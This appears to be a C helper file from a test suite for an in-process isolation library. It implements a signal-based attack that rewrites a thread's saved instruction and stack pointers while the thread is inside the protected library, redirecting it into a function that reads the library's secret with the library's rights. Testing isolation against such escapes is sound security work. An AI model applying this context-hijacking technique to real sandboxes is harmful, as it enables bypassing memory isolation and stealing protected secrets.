#define _GNU_SOURCE
#include "signal_inside.h"

#include "attack.h"

#include <pthread.h>
#include <stdint.h>

static uint8_t stack[65536] __attribute__((aligned(16)));

static void steal(void)
{
    /* With the library's rights, its own export is a nested call. */
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret); /* exits */
}

void point_at_stealer(greg_t *gregs)
{
    gregs[REG_RIP] = (greg_t)(uintptr_t)steal;
    gregs[REG_RSP] = (greg_t)(uintptr_t)(stack + sizeof stack - 8);
}

volatile int redirect_ran;

void redirect_to_stealer(int sig, siginfo_t *si, void *ctx)
{
    point_at_stealer(((ucontext_t *)ctx)->uc_mcontext.gregs);
    redirect_ran = 1;
}

struct later {
    pthread_t target;
    int sig;
};

static void *signal_later(void *arg)
{
    struct later *l = arg;
    usleep(200 * 1000);
    pthread_kill(l->target, l->sig);
    return NULL;
}

void signal_inside(int sig, void (*handler)(int, siginfo_t *, void *), void (*hold)(unsigned), unsigned ms)
{
    struct sigaction sa = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO};
    sigaction(sig, &sa, NULL);
    struct later l = {pthread_self(), sig};
    pthread_t t;
    pthread_create(&t, NULL, signal_later, &l);
    hold(ms);
    pthread_join(t, NULL);
}
